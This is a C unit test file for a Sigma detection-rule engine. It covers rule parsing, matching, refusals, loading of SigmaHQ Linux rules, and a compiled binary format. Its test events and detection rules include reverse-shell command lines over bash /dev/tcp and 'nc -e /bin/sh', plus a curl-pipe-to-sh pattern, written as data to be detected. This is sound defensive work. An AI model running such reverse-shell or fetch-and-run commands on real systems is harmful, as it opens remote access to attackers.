/*
 * Unit tests of lib/sigma: wildcards and escapes, each modifier, lists
 * and `all`, conditions (and/or/not, parentheses, 1 of, all of, them),
 * the refusals with their lines, and the SigmaHQ Linux process_creation
 * rules: each loads or is refused with a line and a reason; a rule that
 * sigma_may_match calls impossible with fields unknown matches for none
 * of their values.
 */
#include <dirent.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "sigma/sigma.h"
#include "util/alloc.h"
#include "util/buf.h"
#include "util/file.h"

static struct sigma_set *
load(const char *yaml, int expect_ok, struct ward_diag *d)
{
	struct sigma_set *s = NULL;
	int r;

	assert_int_equal(sigma_set_new(&s), 0);
	r = sigma_set_add(s, "t.yml", yaml, strlen(yaml), d);
	if (expect_ok && r != 0)
		fail_msg("refused: %d:%d: %s", d->line, d->col, d->msg);
	if (!expect_ok)
		assert_int_not_equal(r, 0);
	return s;
}

static int
matches(const struct sigma_set *s, const char *image, const char *cmd, const char *pimage)
{
	struct sigma_event ev;

	memset(&ev, 0, sizeof(ev));
	ev.field[SF_IMAGE] = image;
	ev.field[SF_COMMANDLINE] = cmd;
	ev.field[SF_PARENTIMAGE] = pimage;
	ev.field[SF_USER] = "root";
	return sigma_match(s, 0, &ev);
}

#define HEAD "title: t\nlogsource:\n  category: process_creation\n  product: linux\n"

static void
test_values_and_modifiers(void **state)
{
	struct ward_diag d;
	struct sigma_set *s;

	(void)state;
	s = load(HEAD "detection:\n  sel:\n    Image|endswith: '/bash'\n"
		      "    CommandLine|contains|all:\n      - ' -c '\n      - '/dev/tcp/'\n"
		      "  condition: sel\naction: kill\n",
		 1, &d);
	assert_int_equal(sigma_rule_action(s, 0), SIGMA_KILL);
	assert_true(matches(s, "/usr/bin/bash", "bash -c 'sh -i >& /dev/tcp/1.2.3.4/4444'", NULL));
	assert_true(matches(s, "/USR/BIN/BASH", "bash -c x >& /DEV/TCP/1", NULL)); /* no case */
	assert_false(matches(s, "/usr/bin/bash", "bash -c 'echo hi'", NULL));	   /* not all */
	assert_false(matches(s, "/usr/bin/zsh", "zsh -c /dev/tcp/", NULL));
	assert_false(matches(s, NULL, "bash -c /dev/tcp/", NULL)); /* unknown field */
	sigma_set_free(s);
	/* Wildcards, escapes, startswith, cased, re. */
	s = load(HEAD "detection:\n  a:\n    Image: '/usr/bin/py*3'\n"
		      "  b:\n    CommandLine|startswith|cased: 'Run\\*'\n"
		      "  c:\n    CommandLine|re: '^curl .*\\|[ ]*sh$'\n"
		      "  condition: a or b or c\n",
		 1, &d);
	assert_true(matches(s, "/usr/bin/python3", "", NULL));
	assert_false(matches(s, "/usr/bin/perl", "", NULL));
	assert_true(matches(s, "/x", "Run* now", NULL));
	assert_false(matches(s, "/x", "run* now", NULL)); /* cased */
	assert_false(matches(s, "/x", "Runner", NULL));	  /* \* is a star */
	assert_true(matches(s, "/x", "curl http://x | sh", NULL));
	assert_false(matches(s, "/x", "curl http://x > f", NULL));
	sigma_set_free(s);
}

static void
test_conditions(void **state)
{
	struct ward_diag d;
	struct sigma_set *s;

	(void)state;
	s = load(HEAD "detection:\n  selection_a:\n    Image|endswith: '/nc'\n"
		      "  selection_b:\n    CommandLine|contains: ' -e '\n"
		      "  filter_main:\n    ParentImage: '/usr/sbin/sshd'\n"
		      "  condition: all of selection_* and not 1 of filter_*\n",
		 1, &d);
	assert_true(matches(s, "/bin/nc", "nc -e /bin/sh 1.2.3.4 9", "/bin/bash"));
	assert_false(matches(s, "/bin/nc", "nc -e /bin/sh 1.2.3.4 9", "/usr/sbin/sshd"));
	assert_false(matches(s, "/bin/nc", "nc -l 9", "/bin/bash"));
	sigma_set_free(s);
	s = load(HEAD "detection:\n  x:\n    - Image: '/a'\n    - Image: '/b'\n"
		      "  y:\n    CommandLine: 'go'\n  condition: (x and y) or not (1 of them)\n",
		 1, &d);
	assert_true(matches(s, "/b", "go", NULL));
	assert_false(matches(s, "/b", "stop", NULL));
	assert_true(matches(s, "/c", "stop", NULL));
	/* the fields the rules look at (the sensor reads only those) */
	assert_int_equal(sigma_set_fields(s), 1u << SF_IMAGE | 1u << SF_COMMANDLINE);
	sigma_set_free(s);
	s = load(HEAD "detection:\n  p:\n    ParentImage|endswith: '/sshd'\n    User: 'root'\n"
		      "  condition: p\n",
		 1, &d);
	assert_int_equal(sigma_set_fields(s), 1u << SF_PARENTIMAGE | 1u << SF_USER);
	sigma_set_free(s);
	assert_int_equal(sigma_set_new(&s), 0);
	assert_int_equal(sigma_set_fields(s), 0);
	sigma_set_free(s);
}

/*
 * sigma_may_match: 0 only when no value of the unknown fields can make the
 * rule match.  Every combination of a few values (NULL: a field that
 * could not be read) is tried for each field left unknown.
 */
static const char *const may_values[] = {
    NULL, "/usr/bin/bash", "/usr/bin/true", "bash -c 'sh -i >& /dev/tcp/1.2.3.4/9 0>&1'",
    "go", "/usr/sbin/sshd"};
#define NVAL (sizeof(may_values) / sizeof(may_values[0]))

static void
check_may_sound(const struct sigma_set *s)
{
	const enum sigma_field f[3] = {SF_IMAGE, SF_COMMANDLINE, SF_PARENTIMAGE};
	unsigned known, a, b, c, x, y, z;

	/* Which of the three fields are known; their values; the others'. */
	for (known = 0; known < 8; known++) {
		unsigned unknown = 0;

		for (a = 0; a < 3; a++)
			if (!(known & (1u << a)))
				unknown |= 1u << f[a];
		for (a = 0; a < NVAL; a++)
			for (b = 0; b < NVAL; b++)
				for (c = 0; c < NVAL; c++) {
					struct sigma_event ev;
					int may, any = 0;

					memset(&ev, 0, sizeof(ev));
					ev.field[SF_IMAGE] = may_values[a];
					ev.field[SF_COMMANDLINE] = may_values[b];
					ev.field[SF_PARENTIMAGE] = may_values[c];
					may = sigma_may_match(s, 0, &ev, unknown);
					assert_int_equal(sigma_may_match(s, 0, &ev, 0),
							 sigma_match(s, 0, &ev));
					/* the unknown ones through every value */
					for (x = 0; x < NVAL && !any; x++)
						for (y = 0; y < NVAL && !any; y++)
							for (z = 0; z < NVAL && !any; z++) {
								struct sigma_event e = ev;

								if (!(known & 1))
									e.field[f[0]] =
									    may_values[x];
								if (!(known & 2))
									e.field[f[1]] =
									    may_values[y];
								if (!(known & 4))
									e.field[f[2]] =
									    may_values[z];
								any = sigma_match(s, 0, &e);
							}
					if (!may)
						assert_false(any);
				}
	}
}

static void
test_may_match(void **state)
{
	static const char *const rules[] = {
	    /* the default content's: decided by the image for most execs */
	    HEAD "detection:\n  selection_shell:\n    Image|endswith:\n      - '/bash'\n"
		 "      - '/sh'\n  selection_cli:\n    CommandLine|contains|all:\n"
		 "      - ' -c '\n      - '/dev/tcp/'\n  condition: all of selection_*\n",
	    HEAD "detection:\n  a:\n    Image|endswith: '/bash'\n  f:\n"
		 "    ParentImage: '/usr/sbin/sshd'\n  condition: a and not f\n",
	    HEAD "detection:\n  x:\n    - Image: '/usr/bin/true'\n    - CommandLine: 'go'\n"
		 "  y:\n    CommandLine: 'go'\n  condition: (x and y) or not (1 of them)\n",
	    HEAD "detection:\n  a:\n    Image|endswith: '/bash'\n    CommandLine: 'go'\n"
		 "  b:\n    ParentImage|contains: 'sshd'\n  condition: not (a or b)\n",
	};
	struct sigma_event ev;
	struct ward_diag d;
	struct sigma_set *s;
	unsigned i;

	(void)state;
	for (i = 0; i < sizeof(rules) / sizeof(rules[0]); i++) {
		s = load(rules[i], 1, &d);
		check_may_sound(s);
		sigma_set_free(s);
	}
	/* What the process monitor relies on: true is decided by its image,
	 * bash needs its command line read. */
	s = load(rules[0], 1, &d);
	memset(&ev, 0, sizeof(ev));
	ev.field[SF_IMAGE] = "/usr/bin/true";
	assert_false(sigma_may_match(s, 0, &ev, 1u << SF_COMMANDLINE));
	ev.field[SF_IMAGE] = "/usr/bin/bash";
	assert_true(sigma_may_match(s, 0, &ev, 1u << SF_COMMANDLINE));
	assert_false(sigma_may_match(s, 0, &ev, 0)); /* no command line: no match */
	sigma_set_free(s);
	/* "not" of what is unknown may be true. */
	s = load(rules[1], 1, &d);
	ev.field[SF_IMAGE] = "/usr/bin/bash";
	assert_true(sigma_may_match(s, 0, &ev, 1u << SF_PARENTIMAGE));
	ev.field[SF_IMAGE] = "/usr/bin/zsh";
	assert_false(sigma_may_match(s, 0, &ev, 1u << SF_PARENTIMAGE));
	sigma_set_free(s);
}

static void
test_refusals(void **state)
{
	static const struct {
		const char *yaml, *msg;
		int line;
	} cases[] = {
	    {HEAD "detection:\n  s:\n    TargetFilename: '/x'\n  condition: s\n",
	     "field 'TargetFilename' is not supported", 7},
	    {HEAD "detection:\n  s:\n    Image|base64: '/x'\n  condition: s\n",
	     "modifier 'base64' is not supported", 7},
	    {HEAD "detection:\n  s:\n    - 'nc -e'\n  condition: s\n", "keyword lists", 7},
	    {HEAD "detection:\n  s:\n    Image: '/x'\n  condition: s | count() > 5\n",
	     "aggregations are not supported", 8},
	    {HEAD "detection:\n  s:\n    Image: '/x'\n  condition: t\n", "'t' is not a selection",
	     8},
	    {HEAD "detection:\n  s:\n    Image|re: '(?i)x'\n  condition: s\n", "POSIX", 7},
	    {HEAD "detection:\n  s:\n    Image|re: 'a+++++++++++++'\n  condition: s\n",
	     "a quantifier on a quantifier", 7},
	    {HEAD "detection:\n  s:\n    Image|re: '((a{50}){50}){50}'\n  condition: s\n",
	     "product is above 10 000", 7},
	    {HEAD "detection:\n  s:\n    Image|re: 'a{1000}'\n  condition: s\n", "above 100", 7},
	    {"title: t\nlogsource:\n  category: file_event\n  product: linux\ndetection:\n  s:\n"
	     "    Image: x\n  condition: s\n",
	     "only process_creation", 3},
	    {"title: t\nlogsource:\n  category: process_creation\n  product: windows\n"
	     "detection:\n  s:\n    Image: x\n  condition: s\n",
	     "only Linux", 4},
	    {HEAD "detection:\n  s:\n    Image: '/x'\n", "no condition", 0},
	    {"title: [broken\n", "", 0},
	};
	struct ward_diag d;
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct sigma_set *s = load(cases[i].yaml, 0, &d);

		if (strstr(d.msg, cases[i].msg) == NULL ||
		    (cases[i].line && d.line != cases[i].line))
			fail_msg("case %zu: %d: %s", i, d.line, d.msg);
		assert_string_equal(d.file, "t.yml");
		sigma_set_free(s);
	}
}

/* Every SigmaHQ Linux process_creation rule loads or is refused with a
 * line and a reason; most load. */
static void
test_sigmahq(void **state)
{
	const char *td = getenv("WARD_TESTDATA");
	char dir[1024], path[2048];
	struct sigma_set *s = NULL;
	struct dirent *de;
	unsigned files = 0, loaded = 0;
	DIR *dp;

	(void)state;
	snprintf(dir, sizeof(dir), "%s/sigma/rules/linux/process_creation", td ? td : "");
	dp = td != NULL ? opendir(dir) : NULL;
	if (dp == NULL)
		fail_msg("the SigmaHQ rules are not at %s: ../shared/testdata must be beside the "
			 "repository",
			 dir);
	assert_int_equal(sigma_set_new(&s), 0);
	while ((de = readdir(dp)) != NULL) {
		struct ward_diag d;
		uint8_t *buf = NULL;
		size_t len = 0;

		if (strstr(de->d_name, ".yml") == NULL)
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
		assert_int_equal(file_read_all(path, SIGMA_MAX_SOURCE, &buf, &len, NULL), 0);
		files++;
		if (sigma_set_add(s, de->d_name, (const char *)buf, len, &d) == 0) {
			loaded++;
		} else {
			if (d.line == 0 || d.msg[0] == '\0')
				fail_msg("%s refused without a line or reason: %s", de->d_name,
					 d.msg);
			print_message("refused %s:%d: %s\n", d.file, d.line, d.msg);
		}
		free(buf);
	}
	closedir(dp);
	print_message("SigmaHQ process_creation: %u of %u rules loaded\n", loaded, files);
	assert_true(files >= 100);
	assert_true(loaded * 10 >= files * 8);
	/* The whole set round-trips through its compiled form. */
	{
		struct sigma_set *back = NULL;
		struct ward_diag d;
		struct wbuf a, b;
		struct rbuf rb;

		wbuf_init(&a);
		wbuf_init(&b);
		assert_int_equal(sigma_set_encode(s, &a), 0);
		rbuf_init(&rb, a.p, a.len);
		if (sigma_set_decode(&rb, &back, &d) != 0)
			fail_msg("SigmaHQ set does not decode: %s", d.msg);
		assert_int_equal(rbuf_left(&rb), 0);
		assert_int_equal(sigma_set_count(back), loaded);
		assert_int_equal(sigma_set_encode(back, &b), 0);
		assert_int_equal(a.len, b.len);
		assert_memory_equal(a.p, b.p, a.len);
		sigma_set_free(back);
		wbuf_free(&a);
		wbuf_free(&b);
	}
	sigma_set_free(s);
}

/* --- the compiled form (sigma_set_encode / sigma_set_decode) ------------ */

static const char *const codec_rules[] = {
    HEAD "detection:\n  sel:\n    Image|endswith: '/bash'\n"
	 "    CommandLine|contains|all:\n      - ' -c '\n      - '/dev/tcp/'\n"
	 "  condition: sel\naction: kill\nid: r1\nlevel: high\n",
    HEAD "detection:\n  a:\n    Image: '/usr/bin/py*3'\n"
	 "  b:\n    CommandLine|startswith|cased: 'Run\\*'\n"
	 "  c:\n    CommandLine|re: '^curl .*\\|[ ]*sh$'\n"
	 "  condition: a or b or c\n",
    HEAD "detection:\n  selection_a:\n    Image|endswith: '/nc'\n"
	 "  selection_b:\n    CommandLine|contains: ' -e '\n"
	 "  filter_main:\n    ParentImage: '/usr/sbin/sshd'\n"
	 "  condition: all of selection_* and not 1 of filter_*\n",
    HEAD "detection:\n  x:\n    - Image: '/a'\n    - Image: '/b'\n"
	 "  y:\n    CommandLine: 'go'\n  condition: (x and y) or not (1 of them)\n",
};

static struct sigma_set *
codec_set(void)
{
	struct sigma_set *s = NULL;
	struct ward_diag d;
	size_t i;

	assert_int_equal(sigma_set_new(&s), 0);
	for (i = 0; i < sizeof(codec_rules) / sizeof(codec_rules[0]); i++)
		if (sigma_set_add(s, "t.yml", codec_rules[i], strlen(codec_rules[i]), &d) != 0)
			fail_msg("rule %zu: %s", i, d.msg);
	return s;
}

static int
codec_decode(const uint8_t *p, size_t n, struct sigma_set **out)
{
	struct ward_diag d;
	struct rbuf rb;
	int r;

	rbuf_init(&rb, p, n);
	r = sigma_set_decode(&rb, out, &d);
	if (r != 0) {
		assert_null(*out);
		assert_true(d.msg[0] != '\0');
	} else if (rbuf_left(&rb) != 0) {
		r = -100;
	}
	return r;
}

/* Every rule of a decoded set matches exactly as the original on a table
 * of events, has the same title, id, level and action, and the set
 * encodes to the same bytes again. */
static void
test_codec_round_trip(void **state)
{
	static const char *const ev[][3] = {
	    {"/usr/bin/bash", "bash -c 'sh -i >& /dev/tcp/1.2.3.4/4444'", NULL},
	    {"/USR/BIN/BASH", "bash -c x >& /DEV/TCP/1", NULL},
	    {"/usr/bin/bash", "bash -c 'echo hi'", NULL},
	    {"/usr/bin/python3", "", NULL},
	    {"/x", "Run* now", NULL},
	    {"/x", "run* now", NULL},
	    {"/x", "Runner", NULL},
	    {"/x", "curl http://x | sh", NULL},
	    {"/bin/nc", "nc -e /bin/sh 1.2.3.4 9", "/bin/bash"},
	    {"/bin/nc", "nc -e /bin/sh 1.2.3.4 9", "/usr/sbin/sshd"},
	    {"/b", "go", NULL},
	    {"/b", "stop", NULL},
	    {"/c", "stop", NULL},
	    {NULL, "bash -c /dev/tcp/", NULL},
	};
	struct sigma_set *s = codec_set(), *back = NULL;
	struct sigma_event e;
	struct wbuf a, b;
	size_t i, j, hits = 0;

	(void)state;
	wbuf_init(&a);
	wbuf_init(&b);
	assert_int_equal(sigma_set_encode(s, &a), 0);
	assert_int_equal(codec_decode(a.p, a.len, &back), 0);
	assert_int_equal(sigma_set_count(back), sigma_set_count(s));
	for (i = 0; i < sigma_set_count(s); i++) {
		assert_string_equal(sigma_rule_title(s, i), sigma_rule_title(back, i));
		assert_string_equal(sigma_rule_id(s, i), sigma_rule_id(back, i));
		assert_string_equal(sigma_rule_level(s, i), sigma_rule_level(back, i));
		assert_int_equal(sigma_rule_action(s, i), sigma_rule_action(back, i));
		for (j = 0; j < sizeof(ev) / sizeof(ev[0]); j++) {
			memset(&e, 0, sizeof(e));
			e.field[SF_IMAGE] = ev[j][0];
			e.field[SF_COMMANDLINE] = ev[j][1];
			e.field[SF_PARENTIMAGE] = ev[j][2];
			assert_int_equal(sigma_match(s, i, &e), sigma_match(back, i, &e));
			hits += (size_t)sigma_match(s, i, &e);
		}
	}
	assert_true(hits >= 6); /* the table exercises matches, not only misses */
	assert_int_equal(sigma_set_encode(back, &b), 0);
	assert_int_equal(a.len, b.len);
	assert_memory_equal(a.p, b.p, a.len);
	/* An empty set: a count of 0, decoded as no set. */
	wbuf_free(&b);
	wbuf_init(&b);
	assert_int_equal(sigma_set_encode(NULL, &b), 0);
	sigma_set_free(back);
	back = NULL;
	assert_int_equal(codec_decode(b.p, b.len, &back), 0);
	assert_null(back);
	sigma_set_free(s);
	wbuf_free(&a);
	wbuf_free(&b);
}

/* One rule, "Image: '/a'", encoded: offsets of its fields. */
#define ONE_RULE HEAD "detection:\n  sel:\n    Image: '/a'\n  condition: sel\n"
enum {
	O_NRULES = 0,
	O_TITLE_LEN = 4,
	O_TITLE = 8,
	O_ACTION = 17,
	O_NSEL = 18,
	O_NM = 29,
	O_NT = 33,
	O_FIELD = 37,
	O_MODS = 38,
	O_NV = 42,
	O_VAL = 50,
	O_NN = 52,
	O_OP = 56,
	O_A = 57,
	O_SEL = 65,
	O_NSELS = 69,
	O_ROOT = 73,
	O_END = 77
};

static void
put32(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)v, p[1] = (uint8_t)(v >> 8), p[2] = (uint8_t)(v >> 16),
	p[3] = (uint8_t)(v >> 24);
}

/* Every truncation; counts above the limits or what remains; a NUL in a
 * string; a field, modifier, action or operator out of range; a node
 * that names a missing selection, itself or a later node (a loop); a
 * root out of range; a regexp that is too costly or does not compile:
 * each refused, nothing half built. */
static void
test_codec_refused(void **state)
{
	static const struct {
		size_t off;
		int width; /* 1 or 4 */
		uint32_t v;
		const char *what;
	} bad[] = {
	    {O_NRULES, 4, 0xffffffffu, "rule count"},
	    {O_NRULES, 4, 2, "rule count past the input"},
	    {O_TITLE_LEN, 4, 0x7fffffffu, "title length"},
	    {O_TITLE, 1, 0, "NUL in the title"},
	    {O_ACTION, 1, 2, "action"},
	    {O_NSEL, 4, 0x10000000u, "selection count"},
	    {O_NM, 4, 0x10000000u, "mapping count"},
	    {O_NT, 4, 0x10000000u, "term count"},
	    {O_FIELD, 1, SF_COUNT, "field"},
	    {O_MODS, 4, 64, "modifier"},
	    {O_NV, 4, 0x10000000u, "value count"},
	    {O_VAL, 1, 0, "NUL in a value"},
	    {O_NN, 4, 0, "no node"},
	    {O_NN, 4, 0x10000000u, "node count"},
	    {O_OP, 1, 6, "operator"},
	    {O_OP, 1, 3, "NOT of itself (a loop)"},
	    {O_SEL, 4, 1, "a missing selection"},
	    {O_NSELS, 4, 1, "selections on a plain node"},
	    {O_ROOT, 4, 1, "root"},
	};
	struct sigma_set *s = NULL, *back = NULL;
	struct ward_diag d;
	struct wbuf a;
	size_t n, i;

	(void)state;
	assert_int_equal(sigma_set_new(&s), 0);
	assert_int_equal(sigma_set_add(s, "t.yml", ONE_RULE, strlen(ONE_RULE), &d), 0);
	wbuf_init(&a);
	assert_int_equal(sigma_set_encode(s, &a), 0);
	assert_int_equal(a.len, O_END);
	assert_memory_equal(a.p + O_VAL, "/a", 2);
	for (n = 0; n < a.len; n++)
		assert_int_not_equal(codec_decode(a.p, n, &back), 0);
	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		uint8_t p[O_END];

		memcpy(p, a.p, O_END);
		if (bad[i].width == 1)
			p[bad[i].off] = (uint8_t)bad[i].v;
		else
			put32(p + bad[i].off, bad[i].v);
		if (codec_decode(p, O_END, &back) == 0)
			fail_msg("%s: decoded", bad[i].what);
	}
	assert_int_equal(codec_decode(a.p, a.len, &back), 0);
	sigma_set_free(back);
	back = NULL;
	/* As a regexp: "/a" compiles; "(a" does not. */
	{
		uint8_t p[O_END];

		memcpy(p, a.p, O_END);
		put32(p + O_MODS, 16); /* M_RE */
		assert_int_equal(codec_decode(p, O_END, &back), 0);
		sigma_set_free(back);
		back = NULL;
		p[O_VAL] = '(';
		assert_int_equal(codec_decode(p, O_END, &back), WARD_EFORMAT);
	}
	sigma_set_free(s);
	wbuf_free(&a);
	/* A costly regexp, encoded directly from a parsed rule's shape. */
	{
		static const char re_rule[] =
		    HEAD "detection:\n  sel:\n    Image|re: 'aaaaaaaaaaaa'\n  condition: sel\n";
		uint8_t *p;

		assert_int_equal(sigma_set_new(&s), 0);
		assert_int_equal(sigma_set_add(s, "t.yml", re_rule, strlen(re_rule), &d), 0);
		wbuf_init(&a);
		assert_int_equal(sigma_set_encode(s, &a), 0);
		p = memmem(a.p, a.len, "aaaaaaaaaaaa", 12);
		assert_non_null(p);
		memcpy(p, "a{99}{99}{99", 12); /* a quantifier on a quantifier */
		assert_int_equal(codec_decode(a.p, a.len, &back), WARD_EFORMAT);
		memcpy(p, "a{101}bbbbbb", 12); /* a count above 100 */
		assert_int_equal(codec_decode(a.p, a.len, &back), WARD_EFORMAT);
		sigma_set_free(s);
		wbuf_free(&a);
	}
}

/* Every allocation of a decode failed in turn: refused, nothing leaks. */
static void
test_codec_alloc_failures(void **state)
{
	struct sigma_set *s = codec_set(), *back = NULL;
	unsigned long n, total;
	struct wbuf a;

	(void)state;
	wbuf_init(&a);
	assert_int_equal(sigma_set_encode(s, &a), 0);
	alloc_fail_after(0);
	assert_int_equal(codec_decode(a.p, a.len, &back), 0);
	total = alloc_fail_after(0);
	sigma_set_free(back);
	for (n = 1; n <= total; n++) {
		back = NULL;
		alloc_fail_after(n);
		(void)codec_decode(a.p, a.len, &back);
		alloc_fail_after(0);
		sigma_set_free(back);
	}
	sigma_set_free(s);
	wbuf_free(&a);
}

/* A condition nested deeper than SIGMA_MAX_DEPTH: refused by the parser
 * with its line, and — as a chain of NOT nodes in the compiled form, which
 * a subverted validator could send — by the decoder, before matching could
 * recurse that deep.  One level less is fine both ways. */
static void
test_codec_depth(void **state)
{
	struct sigma_set *s = NULL, *back = NULL;
	struct ward_diag d;
	struct wbuf a, b;
	char *yaml;
	size_t o, k;
	unsigned depth;

	(void)state;
	yaml = malloc(SIGMA_MAX_DEPTH * 4 + 256);
	assert_non_null(yaml);
	for (depth = SIGMA_MAX_DEPTH; depth <= SIGMA_MAX_DEPTH + 1; depth++) {
		o = (size_t)sprintf(yaml,
				    HEAD "detection:\n  sel:\n    Image: '/a'\n  condition: ");
		for (k = 1; k < depth; k++)
			o += (size_t)sprintf(yaml + o, "not ");
		sprintf(yaml + o, "sel\n");
		assert_int_equal(sigma_set_new(&s), 0);
		if (depth <= SIGMA_MAX_DEPTH) {
			assert_int_equal(sigma_set_add(s, "t.yml", yaml, strlen(yaml), &d), 0);
		} else {
			assert_int_equal(sigma_set_add(s, "t.yml", yaml, strlen(yaml), &d),
					 WARD_EUNSUPPORTED);
			if (strstr(d.msg, "nested deeper") == NULL)
				fail_msg("%s", d.msg);
		}
		sigma_set_free(s);
	}
	free(yaml);
	/* The compiled form: ONE_RULE's prefix, then a chain of NOT nodes. */
	assert_int_equal(sigma_set_new(&s), 0);
	assert_int_equal(sigma_set_add(s, "t.yml", ONE_RULE, strlen(ONE_RULE), &d), 0);
	wbuf_init(&a);
	assert_int_equal(sigma_set_encode(s, &a), 0);
	for (depth = SIGMA_MAX_DEPTH; depth <= SIGMA_MAX_DEPTH + 1; depth++) {
		wbuf_init(&b);
		wbuf_put(&b, a.p, O_NN);
		wbuf_u32(&b, depth);
		wbuf_put(&b, a.p + O_OP, O_ROOT - O_OP); /* node 0: the selection */
		for (k = 1; k < depth; k++) {
			wbuf_u8(&b, 3); /* N_NOT */
			wbuf_u32(&b, (uint32_t)(k - 1));
			wbuf_u32(&b, 0);
			wbuf_u32(&b, 0);
			wbuf_u32(&b, 0);
		}
		wbuf_u32(&b, depth - 1);
		assert_int_equal(b.err, 0);
		if (depth <= SIGMA_MAX_DEPTH) {
			struct sigma_event ev;

			assert_int_equal(codec_decode(b.p, b.len, &back), 0);
			memset(&ev, 0, sizeof(ev));
			ev.field[SF_IMAGE] = "/a"; /* 255 NOTs of a match: no match */
			assert_int_equal(sigma_match(back, 0, &ev), depth % 2);
			sigma_set_free(back);
			back = NULL;
		} else {
			assert_int_equal(codec_decode(b.p, b.len, &back), WARD_EFORMAT);
		}
		wbuf_free(&b);
	}
	wbuf_free(&a);
	sigma_set_free(s);
}

/* A condition of n copies of pre, then "x", then n copies of post. */
static char *
deep_rule(const char *pre, const char *post, unsigned n)
{
	size_t cap = strlen(HEAD) + 100 + n * (strlen(pre) + strlen(post));
	char *y = malloc(cap);
	size_t k;
	unsigned i;

	assert_non_null(y);
	k = (size_t)snprintf(y, cap, "%sdetection:\n  x:\n    Image: '/a'\n  condition: ", HEAD);
	for (i = 0; i < n; i++)
		k += (size_t)snprintf(y + k, cap - k, "%s", pre);
	k += (size_t)snprintf(y + k, cap - k, "x");
	for (i = 0; i < n; i++)
		k += (size_t)snprintf(y + k, cap - k, "%s", post);
	snprintf(y + k, cap - k, "\n");
	return y;
}

/* The condition parser's descent is bounded before the stack is: a
 * rule file full of "not" or nested parentheses (within the size a rule
 * file may have) is refused, not a crash; a deep
 * but allowed nesting still parses and matches. */
static void
test_condition_depth(void **state)
{
	struct ward_diag d;
	struct sigma_set *s;
	char *y;

	(void)state;
	y = deep_rule("not ", "", 200000);
	s = load(y, 0, &d);
	if (strstr(d.msg, "nested deeper") == NULL)
		fail_msg("%s", d.msg);
	sigma_set_free(s);
	free(y);
	y = deep_rule("(", ")", 300000);
	s = load(y, 0, &d);
	if (strstr(d.msg, "nested deeper") == NULL)
		fail_msg("%s", d.msg);
	sigma_set_free(s);
	free(y);
	y = deep_rule("not ", "", 200);
	s = load(y, 1, &d);
	assert_true(matches(s, "/a", "", NULL)); /* an even number of "not" */
	sigma_set_free(s);
	free(y);
	y = deep_rule("(", ")", 200);
	s = load(y, 1, &d);
	assert_true(matches(s, "/a", "", NULL));
	sigma_set_free(s);
	free(y);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_values_and_modifiers),
	    cmocka_unit_test(test_conditions),
	    cmocka_unit_test(test_may_match),
	    cmocka_unit_test(test_refusals),
	    cmocka_unit_test(test_sigmahq),
	    cmocka_unit_test(test_codec_round_trip),
	    cmocka_unit_test(test_codec_refused),
	    cmocka_unit_test(test_codec_alloc_failures),
	    cmocka_unit_test(test_codec_depth),
	    cmocka_unit_test(test_condition_depth),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
